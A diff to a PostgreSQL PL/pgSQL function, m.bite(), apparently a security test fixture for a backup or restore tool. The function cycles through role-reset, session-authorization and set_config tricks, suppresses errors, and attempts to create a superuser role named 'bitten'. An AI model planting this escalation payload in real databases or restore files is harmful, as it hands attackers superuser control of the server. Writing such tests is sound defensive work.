@@ -9,8 +9,9 @@ CREATE FUNCTION m.bite() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
 DECLARE way text;
 BEGIN
     FOREACH way IN ARRAY ARRAY['SELECT 1', 'RESET ROLE', 'SET SESSION AUTHORIZATION DEFAULT',
-        'SET LOCAL ROLE postgres', 'SELECT set_config(''session_authorization'', ''postgres'', false)',
-        'SELECT set_config(''pg_backup.restricted_copy'', ''off'', false)', 'RESET ALL', 'DISCARD ALL'] LOOP
+        'SET LOCAL ROLE postgres', 'RESET ALL', 'DISCARD ALL',
+        'SELECT set_config(''session_authorization'', ''postgres'', false)',
+        'SELECT set_config(''pg_backup.restricted_copy'', ''off'', false)'] LOOP
         BEGIN EXECUTE way; EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN
             EXECUTE format('CREATE ROLE bitten SUPERUSER');
